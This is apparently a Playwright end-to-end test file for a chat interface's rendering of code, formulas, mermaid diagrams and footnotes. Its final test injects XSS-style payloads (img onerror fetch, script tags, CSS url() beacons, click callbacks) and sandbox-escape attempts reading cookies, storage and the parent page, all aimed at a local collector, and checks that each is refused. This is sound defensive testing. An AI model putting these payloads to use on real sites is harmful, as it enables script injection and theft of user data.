import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from 'playwright/test';
import type { Account } from '@/tests/support/e2e-account';
import { ask, lastAnswer, openChat, preferModel, english as t, textsOf } from '@/tests/support/e2e-chat';
import { expect, test, type Wire } from '@/tests/support/e2e-test';
import { deepSeekText } from '@/tests/support/e2e-wire-scripts';
import { deepSeekKey } from '@/tests/support/wire/deepseek-server';

const chinese = textsOf('zh-CN');

const code = "export const answer = async (question: string) => '42 for ' + question; // with a long tail\n";

const answer = `Energy[^1] is $E = mc^2$, and it costs $5 or $6:

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

\`\`\`ts
${code}\`\`\`

\`\`\`mermaid
%% a small one
flowchart LR
  accTitle: The way of a question
  Question --> Model
  Model -->|asks| Tool
  Tool --> Answer
\`\`\`

- [x] done
  - nested
- [ ] open

| ${'Column | '.repeat(9)}
| ${'---|'.repeat(9)}
| ${'averylongword'.repeat(9)} | $\\alpha$ |

[^1]: A note of it.
`;

interface Talk {
  readonly page: Page;
  readonly account: Account;
  readonly wire: Wire;
}

async function hear({ page, account, wire }: Talk, text: string): Promise<void> {
  const saved = await account.api.put('/api/providers/deepseek', {
    data: { api_key: deepSeekKey, base_url: wire.deepSeek.origin },
  });
  expect(saved.status(), await saved.text()).toBe(200);
  await preferModel(page.context(), 'deepseek', 'deepseek-flash');
  await openChat(page, '/', 0);
  wire.deepSeek.enqueue(deepSeekText('Hm.', text));
  await ask(page, 'Tell me');
}

const diagramOf = (page: Page) => lastAnswer(page).getByTestId('diagram');

/** The answer may still settle while it is looked for. */
async function reveal(found: Locator): Promise<void> {
  await expect(() => found.scrollIntoViewIfNeeded({ timeout: 2000 })).toPass();
}

test('code, formulas, a diagram and notes of an answer', async ({ chat: page, account, wire }) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await hear({ page, account, wire }, answer);
  const said = lastAnswer(page);

  await reveal(said.locator('pre').first());
  await expect(said.locator('pre .text-code-keyword').first()).toHaveText('export');
  const figure = said.locator('figure', { hasText: '42 for' });
  const box = figure.locator('pre');
  const wrap = figure.getByRole('button', { name: t('chat.code.wrap') });
  await wrap.press('Enter');
  await expect(wrap).toHaveAttribute('aria-pressed', 'true');
  expect(await box.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);
  await figure.getByRole('button', { name: t('chat.code.copy') }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code.trimEnd());

  await expect(said.locator('math')).toHaveCount(3);
  await expect(said.locator('math mfrac')).toHaveCount(1);
  await expect(said).toContainText('it costs $5 or $6');
  await said.locator('span[data-tex*="int_0"]').hover();
  await said.getByRole('button', { name: t('chat.math.copy') }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('\\frac{1}{3}');

  const diagram = diagramOf(page);
  await reveal(diagram);
  const frame = diagram.locator('iframe');
  await expect(frame).toHaveAttribute('title', /The way of a question/);
  await expect(frame.contentFrame().locator('svg')).toContainText('Question');
  expect(((await frame.boundingBox())?.height ?? 0) > 30).toBe(true);
  await diagram.getByRole('button', { name: t('chat.diagram.source') }).click();
  await expect(diagram.locator('pre')).toContainText('Question --> Model');
  await diagram.getByRole('button', { name: t('chat.diagram.show') }).click();
  await expect(diagram.locator('pre')).toHaveCount(0);

  await said.getByRole('button', { name: t('chat.footnote.show', { id: '1' }) }).click();
  await expect(said.getByRole('note')).toBeFocused();
  await said
    .getByRole('note')
    .getByRole('button', { name: t('chat.footnote.back') })
    .click();
  await expect(said.getByRole('button', { name: t('chat.footnote.show', { id: '1' }) })).toBeFocused();
});

test('the same on a phone, dark and in Chinese, scrolls nothing but itself', async ({ account, wire, openContext }) => {
  const context = await openContext({
    storageState: account.storageState,
    viewport: { width: 360, height: 740 },
    colorScheme: 'dark',
    locale: 'zh-CN',
  });
  const page = await context.newPage();
  await hear({ page, account, wire }, answer);
  await reveal(diagramOf(page));
  await expect(diagramOf(page).getByRole('button', { name: chinese('chat.diagram.source') })).toBeVisible();
  const table = lastAnswer(page).locator('div:has(> table)');
  await reveal(table);
  await expect.poll(() => table.evaluate((element) => element.scrollWidth > element.clientWidth)).toBe(true);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
});

test('a diagram that cannot be drawn is its source', async ({ chat: page, account, wire }) => {
  await hear({ page, account, wire }, '```mermaid\nflowchart LR\n  A --> \n```\n\nand\n\n$\\frac{a}$ is none');
  await reveal(diagramOf(page));
  await expect(diagramOf(page).getByRole('status').first()).toHaveText(t('chat.diagram.failed'));
  await expect(diagramOf(page).locator('pre')).toContainText('A -->');
  await expect(diagramOf(page).locator('iframe')).toHaveCount(0);
  await expect(lastAnswer(page).locator('code', { hasText: '\\frac{a}' })).toBeVisible();
});

test('nothing in the frame of a diagram reaches anything', async ({ browser, origin, account, wire }) => {
  const asked: string[] = [];
  const collector = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => collector.once('listening', resolve));
  const elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  // Not the watched context of the other tests: what is tried here is meant to be refused.
  const context = await browser.newContext({ baseURL: origin, storageState: account.storageState });
  const page = await context.newPage();
  const hostile = [
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "* { background: url(${elsewhere}/css) }"}}%%`,
    'flowchart LR',
    `  A["<img src='${elsewhere}/img' onerror='fetch(\`${elsewhere}/error\`)'>"] --> B["<script>fetch('${elsewhere}/script')</script>"]`,
    `  click A "${elsewhere}/click"`,
    `  click B call fetch("${elsewhere}/call")`,
    `  classDef bad fill:url(${elsewhere}/fill),background:url(${elsewhere}/background)`,
    '  class A,B bad',
  ].join('\n');
  try {
    await hear({ page, account, wire }, `\`\`\`mermaid\n${hostile}\n\`\`\`\n`);
    await reveal(diagramOf(page));
    const outcome = diagramOf(page).getByRole('button', { name: t('chat.diagram.source') });
    await expect(outcome.or(diagramOf(page).getByText(t('chat.diagram.failed')))).toBeVisible();

    // Even a program of a stranger inside of it gets nowhere.
    const frames = () => page.frames().filter((candidate) => candidate.url().endsWith('/diagram/frame'));
    const before = frames().length;
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.sandbox.value = 'allow-scripts';
      frame.src = '/diagram/frame';
      document.body.append(frame);
    });
    await expect.poll(() => frames().length).toBe(before + 1);
    const frame = frames().at(-1);
    const got = await frame?.evaluate(async (address) => {
      const attempt = async (task: () => unknown) => {
        try {
          return String(await task());
        } catch {
          return 'refused';
        }
      };
      const load = (name: 'img' | 'script' | 'iframe') =>
        new Promise((resolve, reject) => {
          const element = document.createElement(name);
          element.onload = () => (name === 'iframe' ? reject(new Error('empty')) : resolve('loaded'));
          element.onerror = () => reject(new Error('refused'));
          element.src = `${address}/${name}`;
          document.body.append(element);
        });
      const attempts: Record<string, () => unknown> = {
        fetch: () => fetch(`${address}/fetch`),
        ours: () => fetch('/api/account'),
        beacon: () => navigator.sendBeacon(`${address}/beacon`) && document.cookie,
        socket: () =>
          new Promise((_resolve, reject) => {
            new WebSocket(`${address.replace('http', 'ws')}/socket`).onerror = reject;
          }),
        image: () => load('img'),
        script: () => load('script'),
        frame: () => load('iframe'),
        storage: () => localStorage.length,
        cookie: () => document.cookie,
        page: () => parent.document.title,
        top: () => {
          if (top) top.location.href = `${address}/top`;
          return new Promise((_resolve, reject) => setTimeout(reject, 200));
        },
        window: () => (window.open(`${address}/window`) === null ? Promise.reject(new Error('none')) : 'opened'),
      };
      const results: Record<string, string> = {};
      for (const [name, task] of Object.entries(attempts)) results[name] = await attempt(task);
      return results;
    }, elsewhere);
    expect(got).toBeDefined();
    expect(new Set(Object.values(got ?? {}))).toEqual(new Set(['refused']));
    await frame?.evaluate((address) => void location.assign(`${address}/navigate`), elsewhere).catch(() => undefined);
    await page.waitForTimeout(300);
    expect(asked).toEqual([]);
    expect(new URL(page.url()).origin).toBe(origin);
  } finally {
    await context.close();
    collector.close();
  }
});
